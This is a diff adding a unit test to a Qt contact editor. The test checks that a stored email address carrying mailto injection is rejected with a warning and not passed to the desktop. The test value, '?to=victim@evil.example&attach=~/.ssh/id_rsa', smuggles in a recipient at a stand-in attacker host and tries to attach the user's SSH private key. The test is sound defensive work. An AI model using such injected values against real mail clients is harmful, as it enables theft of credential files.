@@ -404,6 +404,16 @@ void TestAddressForms::mailToContact() {
     QCOMPARE(editor.services.prompter.messages.size(), 1);
     QCOMPARE(editor.services.prompter.messages[0].text, qm::MailFailedMessage);
     QCOMPARE(editor.services.prompter.messages[0].kind, int(MessageKind::Error));
+
+    // A stored address that would add recipients or attach the user's files
+    // never reaches the desktop.
+    editor.services.shell.answer = true;
+    email->setText(u"?to=victim@evil.example&attach=~/.ssh/id_rsa"_s);
+    QTest::mouseDClick(email, Qt::LeftButton);
+    QCOMPARE(editor.services.shell.opened.size(), 2);
+    QCOMPARE(editor.services.prompter.messages.size(), 2);
+    QCOMPARE(editor.services.prompter.messages[1].text, qm::NotAMailboxMessage);
+    QCOMPARE(editor.services.prompter.messages[1].kind, int(MessageKind::Warning));
 }
 
 // Missing entries are refused with nothing written; the birthday is added
